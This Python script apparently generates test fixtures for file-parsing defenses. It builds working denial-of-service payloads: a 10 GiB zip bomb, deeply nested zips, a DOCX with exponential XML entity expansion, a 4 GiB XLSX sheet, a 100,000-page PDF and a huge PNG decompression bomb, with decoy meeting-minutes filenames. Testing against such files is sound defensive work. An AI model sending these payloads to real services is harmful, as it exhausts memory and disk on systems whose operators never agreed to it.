"""Makes files that are built to exhaust whoever opens them: `make.py FOLDER`.

They are small on disk and made anew for each run, so that no bomb lies in the repository. Only the standard library
is used.
"""

import struct
import sys
import zipfile
import zlib
from pathlib import Path

GIB = 1 << 30
MIB = 1 << 20


def zip_of_10_gib(place: Path) -> None:
    """40 members of 256 MiB zeros: 10 GiB out of about 10 MB, every header true."""
    with zipfile.ZipFile(place, "w", zipfile.ZIP_DEFLATED) as bomb:
        for number in range(40):
            with bomb.open(f"{number:02}.txt", "w", force_zip64=True) as member:
                for _ in range(256):
                    member.write(bytes(MIB))


def zip_in_zip(place: Path) -> None:
    """Zips in zips, deeper than is unpacked."""
    inner = place.with_suffix(".inner")
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a.txt", "村民代表会议记录")
    for depth in range(8):
        outer = place.with_suffix(f".{depth}")
        with zipfile.ZipFile(outer, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.write(inner, f"{depth}.zip")
        inner.unlink()
        inner = outer
    inner.rename(place)


def word_with_entities(place: Path) -> None:
    """A DOCX whose XML entities would expand to a thousand million characters."""
    entities = '<!ENTITY a0 "公示公示公示">' + "".join(
        f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)
    )
    document = (
        f'<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE w [{entities}]>'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        "<w:body><w:p><w:r><w:t>&a9;</w:t></w:r></w:p></w:body></w:document>"
    )
    types = (
        '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Override PartName="/word/document.xml" ContentType='
        '"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
    )
    relations = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
        'Target="word/document.xml"/></Relationships>'
    )
    with zipfile.ZipFile(place, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", types)
        package.writestr("_rels/.rels", relations)
        package.writestr("word/document.xml", document)


def sheet_of_4_gib(place: Path) -> None:
    """An XLSX whose only sheet unpacks to 4 GiB of white space."""
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    types = (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="{kind}.sheet.main+xml"/>'
        f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{kind}.worksheet+xml"/></Types>'
    )
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    package_relations = "http://schemas.openxmlformats.org/package/2006/relationships"
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    with zipfile.ZipFile(place, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", types)
        package.writestr(
            "_rels/.rels",
            f'<Relationships xmlns="{package_relations}"><Relationship Id="r" Type="{office}/officeDocument" '
            'Target="xl/workbook.xml"/></Relationships>',
        )
        package.writestr(
            "xl/workbook.xml",
            f'<workbook xmlns="{main}" xmlns:r="{office}"><sheets><sheet name="表" sheetId="1" r:id="r1"/></sheets>'
            "</workbook>",
        )
        package.writestr(
            "xl/_rels/workbook.xml.rels",
            f'<Relationships xmlns="{package_relations}"><Relationship Id="r1" Type="{office}/worksheet" '
            'Target="worksheets/sheet1.xml"/></Relationships>',
        )
        with package.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(f'<worksheet xmlns="{main}"><sheetData>'.encode())
            for _ in range(4 * GIB // (16 * MIB)):
                sheet.write(b" " * (16 * MIB))
            sheet.write(b"</sheetData></worksheet>")


def pdf_of_100k_pages(place: Path) -> None:
    """A PDF with 100,000 pages, each with a line of text."""
    pages = 100_000
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Count %d/Kids[%s]>>" % (pages, b" ".join(b"%d 0 R" % (5 + n) for n in range(pages))),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        b"<</Length 44>>stream\nBT /F 12 Tf 72 720 Td (minutes of a day) Tj ET \nendstream",
    ]
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F 3 0 R>>>>>>"
    objects += [page] * pages
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, content in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj%s endobj\n" % (number, content)
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, table)
    place.write_bytes(out)


def png_of_60000_pixels(place: Path) -> None:
    """A whole PNG of 60,000 × 60,000 white pixels, one bit each: 450 MB out of some 450 kB."""
    side = 60_000

    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    packer = zlib.compressobj(9)
    rows = (b"\0" + b"\xff" * (side // 8)) * 1_000
    packed = b"".join(packer.compress(rows) for _ in range(side // 1_000)) + packer.flush()
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    place.write_bytes(
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")
    )


MAKERS = {
    "十吉字节.zip": zip_of_10_gib,
    "层层压缩.zip": zip_in_zip,
    "实体展开.docx": word_with_entities,
    "巨表.xlsx": sheet_of_4_gib,
    "十万页.pdf": pdf_of_100k_pages,
    "六万像素.png": png_of_60000_pixels,
}


def main() -> None:
    folder = Path(sys.argv[1])
    folder.mkdir(parents=True, exist_ok=True)
    for name, make in MAKERS.items():
        make(folder / name)
    (folder / "会议记录.txt").write_text("村民代表会议记录\n时间：2020年3月1日\n", encoding="utf-8")


if __name__ == "__main__":
    main()
